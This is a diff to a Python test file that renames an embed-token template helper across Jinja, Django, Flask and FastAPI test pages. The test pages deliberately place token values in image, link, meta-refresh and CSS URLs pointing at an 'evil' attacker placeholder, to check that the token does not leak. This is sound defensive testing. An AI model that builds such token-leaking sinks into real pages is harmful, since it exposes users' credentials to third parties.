@@ -39,7 +39,7 @@ JINJA_PAGE = """<!doctype html>
 <img src="{{ evil }}?t={{ v }}">
 <a href="{{ evil }}?t={{ v }}">profile</a>
 <meta http-equiv="refresh" content="30;url={{ evil }}?t={{ v }}">
-<iframe src="https://charts.example.com/embed?token={{ embed_token('top_airlines') }}"></iframe>
+<iframe src="https://charts.example.com/embed?token={{ embed_placeholder('top_airlines') }}"></iframe>
 <div style="background:url({{ evil }}?t={{ v }})"></div>
 {{ sanitised|safe }}
 <div data-note="{{ v }}"></div>
@@ -47,7 +47,7 @@ JINJA_PAGE = """<!doctype html>
 <a href="/search?{{ query }}">again</a>
 </main>
 """
-DJANGO_TAG = '{% embed_token "top_airlines" %}'
+DJANGO_TAG = '{% embed_placeholder "top_airlines" %}'
 DJANGO_PAGE = (
     """{% load embed %}<!doctype html>
 <main>
@@ -99,7 +99,7 @@ def flask_app() -> Flask:
     @app.get("/<mode>/<spelling>")
     def show(mode: str, spelling: str) -> Any:
         context = values(spelling)
-        references.append(render_template_string(JINJA_PAGE, embed_token=mark, **context))
+        references.append(render_template_string(JINJA_PAGE, embed_placeholder=mark, **context))
         if mode == "whole":
             return render_template_string(JINJA_PAGE, **context)
         return Response(stream_template_string(JINJA_PAGE, **context), content_type="text/html")
@@ -190,7 +190,7 @@ def fastapi_app() -> Any:
         request.state.embed_tenant = TENANT
         context = values(spelling)
         template = templates.get_template("page.html")
-        references.append(template.render(request=request, embed_token=mark, **context))
+        references.append(template.render(request=request, embed_placeholder=mark, **context))
         if mode == "whole":
             return templates.TemplateResponse(request, "page.html", context)
         parts = template.generate(request=request, **context)
@@ -219,7 +219,9 @@ def test_fastapi_templates(fastapi_app: Any, mode: str, spelling: str) -> None:
 def test_the_reference_pages_really_carry_every_spelling() -> None:
     """The catalogue is only as strong as its pages: each renders the attacker's text (not an error)."""
     rendered = (
-        Environment(autoescape=True).from_string(JINJA_PAGE).render(embed_token=mark, **values("raw named"))
+        Environment(autoescape=True)
+        .from_string(JINJA_PAGE)
+        .render(embed_placeholder=mark, **values("raw named"))
     )
     assert rendered.count("JWT_TOKEN") >= 8 and MARK in rendered
     assert json.loads(rendered.split('application/json">')[1].split("</script>")[0]) == {
